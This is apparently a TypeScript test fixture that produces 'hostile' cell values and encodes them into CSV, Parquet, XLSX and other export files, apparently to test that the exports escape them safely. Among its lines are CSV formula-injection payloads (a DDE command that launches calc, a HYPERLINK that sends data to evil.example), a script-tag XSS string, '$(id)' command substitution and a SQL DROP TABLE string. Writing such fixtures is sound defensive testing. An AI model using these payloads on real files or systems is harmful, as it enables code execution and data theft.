import { Role } from "../../gen/es/ids/options/v1/options_pb.ts";
import type { CellType, Column, Place } from "../../src/contract/columns.ts";
import type { Table } from "../../src/contract/tables.ts";
import { csvStream } from "../../src/http/rest/formats/csv.ts";
import { csvwFile } from "../../src/http/rest/formats/csvw.ts";
import type { FileMetadata } from "../../src/http/rest/formats/file-metadata.ts";
import { geojsonStream } from "../../src/http/rest/formats/geojson.ts";
import { ndjsonStream } from "../../src/http/rest/formats/ndjson.ts";
import { parquetStream } from "../../src/http/rest/formats/parquet.ts";
import { wholeFile } from "../../src/http/rest/formats/row-stream.ts";
import { xlsxWhole } from "../../src/http/rest/formats/xlsx.ts";

const formulas = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"].flatMap((begin) => [
  begin,
  `${begin}1`,
  `${begin}SUM(A1:A9)`,
  `${begin}cmd|' /C calc'!A0`,
  `${begin}HYPERLINK("https://evil.example/?"&A1,"see")`,
  ` ${begin}1+1`,
  `"${begin}1+1"`,
  `'${begin}1+1`,
  `a,${begin}1+1`,
  `a;${begin}1+1`,
  `a\r\n${begin}1+1`,
  `${begin.repeat(3)}1`,
]);
const separators = [
  ",",
  ";",
  "|",
  "||",
  "\t",
  ":",
  "a|b",
  "|a",
  "a|",
  "a,b",
  ",,,",
  "a\tb",
  "sep=;",
  "#",
  "# comment",
  "\\",
  "\\,",
  "\\N",
];
const quotes = [
  '"',
  '""',
  '"""',
  "'",
  "''",
  '"a',
  'a"',
  'a"b',
  '"a"',
  '","',
  '"\r\n"',
  "“a”",
  "`",
  '\\"',
  '"=1"',
  '","="',
];
const lines = [
  "\r",
  "\n",
  "\r\n",
  "\n\r",
  "a\nb",
  "a\rb",
  "a\r\nb",
  "\na",
  "a\n",
  "a\r",
  "\n\n",
  "a\u0085b",
  "a\u2028b",
  "a\u2029b",
  "a\vb",
  "a\fb",
];
const figures = [
  ...[
    "0",
    "00",
    "007",
    "01234",
    "1.0",
    "1.10",
    "1,5",
    "1.000,5",
    "1e5",
    "1E-400",
    "0x1F",
    "1_000",
    "+1.5",
    "-0",
    ".5",
    "5.",
  ],
  ...[
    "9007199254740993",
    "18446744073709551616",
    "123456789012345678901234567890",
    "3.141592653589793238462643",
    "1/2",
  ],
  ...[
    "12-1",
    "MARCH1",
    "SEPT2",
    "2026-11-18",
    "2026-11-18T12:00:00Z",
    "18/11/2026",
    "12:30",
    "1:2",
    "50%",
    "$5",
    "€5",
    "1d",
    "1f",
    "٣",
  ],
];
const words = [
  ...[
    "NULL",
    "null",
    "None",
    "nil",
    "NA",
    "N/A",
    "#N/A",
    "NaN",
    "nan",
    "inf",
    "-inf",
    "Infinity",
    "-Infinity",
    "undefined",
  ],
  ...[
    "true",
    "TRUE",
    "false",
    "T",
    "F",
    "yes",
    "NO",
    "on",
    "off",
    "1#QNAN",
    "#REF!",
    "__proto__",
    "constructor",
    "[]",
    "{}",
    '{"a":1}',
  ],
];
const blanks = [
  " ",
  "  ",
  " a",
  "a ",
  "\u00a0",
  "\u00a0a",
  "\u3000",
  "\u200b",
  "\ufeff",
  "\ufeffa",
  "\u2060",
  "\u00ad",
];
const letters = [
  ...[
    "\u202etxt.exe",
    "\u202dabc\u202c",
    "\u2066a\u2069",
    "\u061c",
    "\u200fאבג",
    "العربية",
    "e\u0301",
    "é",
    "\u0300",
    "ǆ",
    "ß",
    "İ",
    "ﬀ",
  ],
  ...["👩‍👩‍👧‍👦", "🇺🇳", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "𝕬", "\u{10ffff}", "\uffff", "\ufffe", "\ufffd", "\ue000", "苹果", "ﷺ", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢"],
];
const markup = [
  "<script>alert(1)</script>",
  "&amp;",
  "&#0;",
  "]]>",
  "<!--",
  "%s%n",
  "%00",
  "$(id)",
  "; DROP TABLE a; --",
];
const controls = Array.from({ length: 0xa0 }, (_, code) => code)
  .filter((code) => (code > 0 && code < 0x20) || code >= 0x7f)
  .map((code) => `A${String.fromCharCode(code)}B`);
const long = ["a", '"', ",", "\r\n", "=", "é", "👩", "a,"].map((unit) => unit.repeat(40_000 / unit.length));

/** Texts that have changed a table's columns, a value's type, or run as a program. None is empty or holds a NUL. */
export const hostileCells: readonly string[] = [
  ...new Set([formulas, separators, quotes, lines, figures, words, blanks, letters, markup, controls, long].flat()),
];

export const nothingSaid: FileMetadata = {
  ...{ name: "rows", title: "", csvUrl: "", documentation: "", attribution: [], origin: "live", isStale: false },
  ...{ missing: [], withheld: [] },
};

/** A table whose rows are lists of its cells. */
export function tableOf(columns: Readonly<Record<string, CellType>>): Table {
  return {
    name: "rows",
    columns: Object.entries(columns).map(
      ([name, type], index): Column => ({
        ...{ name, type, role: Role.UNSPECIFIED, time: 0, unit: "", unitFrom: "", scale: 1 },
        read: ({ row }) => (Array.isArray(row) ? (row[index] ?? null) : null),
      }),
    ),
    key: [],
    rowsIn: () => [],
  };
}

export function placesOf(rows: readonly Place["row"][]): Place[] {
  return rows.map((row) => ({ request: {}, response: {}, parents: [], row }));
}

/** A table of hostile cells, and its files by their endings. */
export async function hostileFiles(): Promise<{ readonly table: Table; readonly files: Record<string, Buffer> }> {
  const plain = tableOf({ row: "integer", text: "text", items: "list", x: "number", y: "number", after: "text" });
  const [, , , longitude, latitude] = plain.columns;
  const table: Table = { ...plain, ...(longitude && latitude && { longitude, latitude }) };
  const places = placesOf(hostileCells.map((cell, row) => [row, cell, [cell, "b"], row / 10, -row / 10, "after"]));
  const streams = { csv: csvStream, ndjson: ndjsonStream, geojson: geojsonStream, parquet: parquetStream };
  const files = Object.entries(streams).map(([format, stream]) => [
    format,
    wholeFile(stream(table, nothingSaid, true), places),
  ]);
  const safe = wholeFile(csvStream(table, nothingSaid, false), places);
  const xlsx = await xlsxWhole(table, nothingSaid, true, places);
  return {
    table,
    files: { ...Object.fromEntries(files), xlsx, "sheet.csv": safe, csvw: csvwFile(table, nothingSaid) },
  };
}
